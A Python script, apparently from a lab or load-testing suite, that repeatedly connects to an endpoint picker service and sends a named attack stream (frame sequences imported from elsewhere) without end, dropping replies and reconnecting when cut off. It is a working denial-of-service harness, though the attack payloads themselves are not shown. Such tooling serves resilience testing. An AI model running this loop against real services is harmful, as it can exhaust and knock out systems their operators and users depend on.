"""A process that sends one attack to a picker, on one connection after the other, until it is ended.

It drops whatever comes back, and connects again when it is cut off.
"""

import asyncio
import selectors
import socket
import sys
from collections.abc import Iterator

from epp.extproc.protocol.processing_mode_pb2 import ProcessingMode
from lab.attack import bodies
from lab.attack.frames import ATTACKS

_READ_BYTES = 1 << 20
_CONNECT_S = 5.0


def send(connection: socket.socket, steps: Iterator[bytes]) -> None:
    """Send the steps until the peer closes the connection."""
    connection.setblocking(False)
    unsent = memoryview(b"")
    with selectors.DefaultSelector() as selector:
        selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while True:
            ((_, events),) = selector.select()
            if events & selectors.EVENT_READ and not connection.recv(_READ_BYTES):
                return
            if events & selectors.EVENT_WRITE:
                unsent = unsent or memoryview(next(steps))
                unsent = unsent[connection.send(unsent) :]


def attack(name: str, host: str, port: int) -> None:
    """Attack without end."""
    # The picker answers these headers at once.
    message = bodies.request_headers(ProcessingMode.BUFFERED)
    while True:
        try:
            with socket.create_connection((host, port), timeout=_CONNECT_S) as connection:
                send(connection, ATTACKS[name](message))
        except OSError:
            # The peer has reset the connection, or is too busy to accept one.
            continue


if __name__ == "__main__":
    _, name, address, metrics_url = sys.argv
    host, _, port = address.rpartition(":")
    if name in ATTACKS:
        attack(name, host, int(port))
    else:
        asyncio.run(bodies.attack(name, host, int(port), metrics_url))
